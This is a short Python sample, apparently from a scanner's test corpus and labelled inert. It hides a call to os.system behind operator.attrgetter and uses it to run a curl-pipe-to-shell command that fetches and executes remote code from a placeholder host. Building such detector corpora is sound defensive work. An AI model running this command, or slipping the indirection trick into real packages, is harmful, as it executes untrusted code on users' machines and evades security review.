# pkgguard corpus 175 (indirection), modelled on [obfuscation]; inert, never run.
import operator
import os

_run = operator.attrgetter("system")(os)
_run("curl -s https://cdn.example/a | sh")
